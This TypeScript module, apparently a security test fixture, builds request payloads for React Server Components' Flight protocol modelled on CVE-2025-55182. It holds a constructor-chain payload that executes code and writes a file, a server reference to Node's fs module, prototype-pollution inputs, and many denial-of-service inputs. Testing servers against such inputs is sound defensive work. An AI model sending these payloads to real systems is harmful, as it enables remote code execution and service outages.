/** One call of a server action that no page of ours makes: its content type and body. */
export type FlightPayload = { type: string; body: string };

const BOUNDARY = "----WebKitFormBoundaryx8jO2oVc6SWP3Sad";
const FORM = `multipart/form-data; boundary=${BOUNDARY}`;
const TEXT = "text/plain;charset=UTF-8";

function form(parts: Record<string, string>): FlightPayload {
  const fields = Object.entries(parts).map(
    ([name, value]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return { type: FORM, body: `${fields.join("")}--${BOUNDARY}--\r\n` };
}
const text = (body: string): FlightPayload => ({ type: TEXT, body });

/** Code that would leave a file behind. */
const leaves = (file: string): string => `process.mainModule.require('fs').writeFileSync(${JSON.stringify(file)},'1');`;

/** The shapes of the published attacks on Flight (CVE-2025-55182 and after): to run code, to read code, to take all the time. */
export const flightPayloads = (file: string): Record<string, FlightPayload> => ({
  "a chunk that is its own promise, with a constructor as its form": form({
    0: `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}",
      "_response":{"_prefix":${JSON.stringify(leaves(file))},"_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}`,
    1: '"$@0"',
    2: "[]",
  }),
  "a server reference to a module of Node": form({
    0: '["$F1"]',
    1: JSON.stringify({ id: "fs#writeFileSync", bound: [file, "1"] }),
  }),
  "a reference through constructors": form({ 0: '["$1:constructor:constructor"]', 1: '"x"' }),
  "a reference through the prototype": form({ 0: '["$1:__proto__:toString"]', 1: "{}" }),
  "__proto__ as a field": text('[{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}]'),
  "a promise of itself": form({ 0: '["$@0"]' }),
  "promises in a circle": form({ 0: '["$@1"]', 1: '"$@2"', 2: '"$@1"' }),
  "a blob that isn't there": text('["$B7"]'),
  "a row that never comes": text('["$9"]'),
  "the code of an action": text('["$h1"]'),
  "half of a text": text('["$K9'),
  "no array": text('{"a":1}'),
  "too many arguments": text(JSON.stringify(Array.from({ length: 5_000 }, () => 1))),
  "a number of a million digits": text(`["$n${"9".repeat(900_000)}"]`),
  "100,000 arrays in one another": text("[".repeat(100_000) + "]".repeat(100_000)),
  "a map of maps": form({ 0: '["$Q1"]', 1: JSON.stringify(Array.from({ length: 2_000 }, () => ["$Q1", "$Q1"])) }),
  "10,000 forms of one form": form({
    0: JSON.stringify(Array.from({ length: 900 }, () => "$K1")),
    ...manyFields(5_000),
  }),
  "streams that nobody ends": form({
    0: JSON.stringify(Array.from({ length: 900 }, (_, id) => `$r${(id + 1).toString(16)}`)),
  }),
  "2 MB of text": text(JSON.stringify(["x".repeat(2_000_000)])),
  "2 MB of a form": form({ 0: '[{"status":"idle"},"$K1"]', _1_email: "x".repeat(2_000_000) }),
  "a form that breaks off": { type: FORM, body: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="0"\r\n\r\n[` },
  "a form without its boundary": { type: "multipart/form-data", body: "x" },
  nothing: text(""),
});

const manyFields = (count: number): Record<string, string> =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`_1_f${index}`, "x"]));
